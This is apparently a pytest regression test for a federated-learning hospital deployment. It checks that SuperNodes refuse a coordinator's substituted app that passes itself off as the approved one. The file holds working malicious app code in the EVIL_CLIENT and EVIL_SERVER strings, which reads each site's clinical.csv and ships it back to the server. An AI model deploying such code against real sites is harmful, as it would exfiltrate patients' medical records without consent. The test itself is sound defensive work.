"""Attack class 8 (issue 25): the coordinator replaces the app a hospital reviewed.

A SuperLink and two hospitals' SuperNodes run on loopback, one with each launcher the
deploy scripts use: the warm SuperNode (`deploy/warm_supernode.py`, the default) and the
plain one (`FEDDLR_FAST=0`). The coordinator submits, under FedDLR's own name, a FAB whose
ClientApp reads the site's `clinical.csv` and sends it back; its ServerApp keeps whatever
comes back. Then the hospitals' approved app (the checkout, recorded with
`deploy/approval.py approve`) runs the cohort stage of a study.

Before issue 25 (commit 862bbee, whose deploy/ this test ran against with site-2 on plain
`flower-supernode`) each SuperNode installed and ran whatever FAB came: the attacker's
ServerApp received both sites' whole clinical.csv byte for byte, 75/75 rows of site-1
(warm SuperNode) and 45/45 rows of site-2 (plain SuperNode), patient ids included.
Now the FAB is refused in the SuperNode before it is stored, installed or imported: the
server gets an Error reply with the reason, the refusal is in each site's audit log, and no
byte of clinical.csv leaves; the approved app still runs the study.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
import urllib.request
from pathlib import Path

import pytest

from simulation.cohort import simulate_cohort
from simulation.launcher import APP_DIR, free_port
from tests.processes import processes

pytestmark = pytest.mark.slow

SITES = ("site-1", "site-2")
# the two ways deploy/supernode.sh starts a hospital's SuperNode
LAUNCHERS = {"site-1": [sys.executable, str(APP_DIR / "deploy" / "warm_supernode.py")],
             "site-2": [sys.executable, str(APP_DIR / "deploy" / "approval.py"), "supernode"]}

EVIL_PYPROJECT = """\
[build-system]
requires = ["setuptools>=68"]
build-backend = "setuptools.build_meta"

[project]
name = "feddlr"
version = "0.1.0"
dependencies = []

[tool.flwr.app]
publisher = "feddlr"

[tool.flwr.app.components]
serverapp = "evil_server:app"
clientapp = "evil_client:app"

[tool.flwr.app.config]
out = ""
nodes = 2
"""

EVIL_CLIENT = """\
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def steal(msg: Message, context: Context) -> Message:
    site = Path(str(context.node_config["site-dir"]))
    text = (site / "clinical.csv").read_text(encoding="utf-8")
    return Message(RecordDict({"stolen": ConfigRecord({"csv": text})}), reply_to=msg)
"""

EVIL_SERVER = """\
import json
import time
import urllib.request
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.serverapp import Grid, ServerApp

app = ServerApp()


@app.main()
def main(grid: Grid, context: Context) -> None:
    deadline = time.time() + 60
    nodes = []
    while len(nodes) < int(context.run_config["nodes"]) and time.time() < deadline:
        nodes = sorted(grid.get_node_ids())
        time.sleep(0.5)
    asks = [Message(RecordDict({"q": ConfigRecord({})}), dst_node_id=n, message_type="query")
            for n in nodes]
    got = []
    for reply in grid.send_and_receive(asks, timeout=90):
        if reply.has_error():
            got.append({"error": reply.error.reason, "code": int(reply.error.code)})
        else:
            got.append({"csv": str(reply.content["stolen"]["csv"])})
    Path(str(context.run_config["out"])).write_text(json.dumps(got))
"""


def evil_app(folder: Path) -> Path:
    """The coordinator's modified app: FedDLR's name, a ClientApp that reads clinical.csv."""
    folder.mkdir(parents=True)
    (folder / "pyproject.toml").write_text(EVIL_PYPROJECT)
    (folder / "evil_client.py").write_text(EVIL_CLIENT)
    (folder / "evil_server.py").write_text(EVIL_SERVER)
    return folder


def wait_healthy(port: int, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/health", timeout=2) as resp:
                if resp.status == 200:
                    return
        except OSError:
            time.sleep(0.3)
    raise AssertionError(f"SuperLink on port {port} did not become healthy")


def flwr(args: list[str], env: dict[str, str], timeout: float = 240) -> str:
    done = subprocess.run([str(Path(sys.executable).parent / "flwr"), *args], cwd=APP_DIR,
                          env=env, capture_output=True, text=True, timeout=timeout)
    return f"rc={done.returncode}\n{done.stdout}{done.stderr}"


@pytest.fixture(scope="module")
def deployment(tmp_path_factory: pytest.TempPathFactory) -> dict:
    root = tmp_path_factory.mktemp("sovereignty")
    simulate_cohort(root / "sites", n_sites=2, n_patients=60, seed=21, images=False)
    port = free_port()
    base = {k: v for k, v in os.environ.items() if not k.startswith(("FEDDLR_", "FLWR_"))}
    base.update(PATH=str(Path(sys.executable).parent) + os.pathsep + os.environ["PATH"],
                FLWR_DISABLE_RUNTIME_DEPENDENCY_INSTALLATION="1",
                FLWR_DISABLE_UPDATE_CHECK="1", FLWR_TELEMETRY_ENABLED="0",
                FLWR_SUPEREXEC_TASK_POLL_INTERVAL="0.2")
    coordinator = dict(base, FLWR_HOME=str(root / "coordinator"))
    (root / "coordinator").mkdir()
    (root / "coordinator" / "config.toml").write_text(textwrap.dedent(f"""\
        [superlink]
        default = "local"

        [superlink.local]
        address = "127.0.0.1:{port}"
        insecure = true
        """))
    started: list[subprocess.Popen] = []

    def start(name: str, command: list[str], env: dict[str, str]) -> None:
        log = (root / f"{name}.log").open("ab")
        started.append(subprocess.Popen(command, cwd=APP_DIR, env=env, stdout=log,
                                        stderr=subprocess.STDOUT, start_new_session=True))

    info: dict = {"root": root}
    try:
        start("superlink", [str(Path(sys.executable).parent / "flower-superlink"),
                            "--insecure", "--host", "127.0.0.1", "--port", str(port),
                            "--disable-runtime-dependency-installation",
                            "--database", ":flwr-in-memory:"], coordinator)
        wait_healthy(port)
        for site in SITES:
            folder = root / "sites" / site
            start(site, [*LAUNCHERS[site], "--insecure", "--superlink", f"127.0.0.1:{port}",
                         "--node-config", f'site-dir="{folder}"', "--host", "127.0.0.1",
                         "--port", str(free_port())],
                  dict(base, FLWR_HOME=str(root / f"home-{site}")))
        # the attack: the coordinator's modified app, under FedDLR's name
        stolen = root / "stolen.json"
        info["evil_log"] = flwr(["run", str(evil_app(root / "evil" / "feddlr")), "local",
                                 "--stream", "--run-config", f'out="{stolen}" nodes=2'],
                                coordinator)
        info["stolen"] = json.loads(stolen.read_text()) if stolen.is_file() else []
        # the hospitals review the app and record it; the study runs
        for site in SITES:
            done = subprocess.run([sys.executable, str(APP_DIR / "deploy" / "approval.py"),
                                   "approve", str(APP_DIR), "--site",
                                   str(root / "sites" / site)],
                                  capture_output=True, text=True, timeout=120)
            info[f"approve_{site}"] = done.stdout + done.stderr
        info["study_log"] = flwr(["run", ".", "local", "--stream", "--run-config",
                                  f'stages="cohort" min-sites=2 out-dir="{root / "out"}"'],
                                 coordinator)
    finally:
        for proc in started:
            if proc.poll() is None:
                os.killpg(proc.pid, signal.SIGTERM)
        for proc in started:
            try:
                proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
        # a ServerApp process (marked by the SuperLink's port, not the root) leaves on its
        # own once the SuperLink is gone: wait for it too before calling it left over
        deadline = time.monotonic() + 20

        def left() -> list[tuple[int, str]]:
            return processes(str(root)) + processes(f"127.0.0.1:{port}")

        while left() and time.monotonic() < deadline:
            time.sleep(0.5)
        info["left"] = left()
    return info


def clinical_rows(root: Path, site: str) -> list[str]:
    lines = (root / "sites" / site / "clinical.csv").read_text(encoding="utf-8").splitlines()
    return [line for line in lines[1:] if line.strip()]


def test_the_modified_app_gets_no_row_of_clinical_csv(deployment: dict) -> None:
    root = deployment["root"]
    received = json.dumps(deployment["stolen"])
    for site in SITES:
        rows = clinical_rows(root, site)
        ids = [row.split(",")[0] for row in rows]
        leaked = [row for row in rows if row in received]
        named = [i for i in ids if i in received]
        assert leaked == [] and named == [], \
            f"{site}: the coordinator recovered {len(leaked)}/{len(rows)} rows of clinical.csv"
    # the coordinator sees why: one Error reply per site, naming the refusal
    assert len(deployment["stolen"]) == 2, deployment["evil_log"][-3000:]
    for reply in deployment["stolen"]:
        assert "not approved" in reply["error"]


def test_the_refusal_is_in_each_sites_audit_log(deployment: dict) -> None:
    for site in SITES:
        log = deployment["root"] / "sites" / site / "audit" / "egress.jsonl"
        records = [json.loads(line) for line in log.read_text().splitlines()]
        refusals = [r for r in records if r["message_type"] == "app"]
        assert refusals, records
        assert all(r["status"] == "refused" and "not approved" in r["refused"]["app"]
                   and len(r["fab_sha256"]) == 64 and r["keys"] == ["error"]
                   and r["app"] == "feddlr/feddlr==0.1.0" for r in refusals)
        # nothing of the modified app ran: no other record for its run
        evil_runs = {r["run_id"] for r in refusals}
        assert not [r for r in records if r["run_id"] in evil_runs and r not in refusals]
        assert (deployment["root"] / "sites" / site / "approved_apps.txt").is_file()


def test_the_approved_app_runs_the_study(deployment: dict) -> None:
    for site in SITES:
        assert "approved" in deployment[f"approve_{site}"], deployment[f"approve_{site}"]
    results = json.loads((deployment["root"] / "out" / "results.json").read_text())
    assert [s["status"] for s in results["run"]["sites"]] == ["ok", "ok"], \
        deployment["study_log"][-3000:]
    assert results["run"]["stages"]["cohort"]["status"] == "ok"
    assert results["cohort"]["sites_used"] == list(SITES)


def test_no_process_is_left(deployment: dict) -> None:
    assert deployment["left"] == [], deployment["left"]
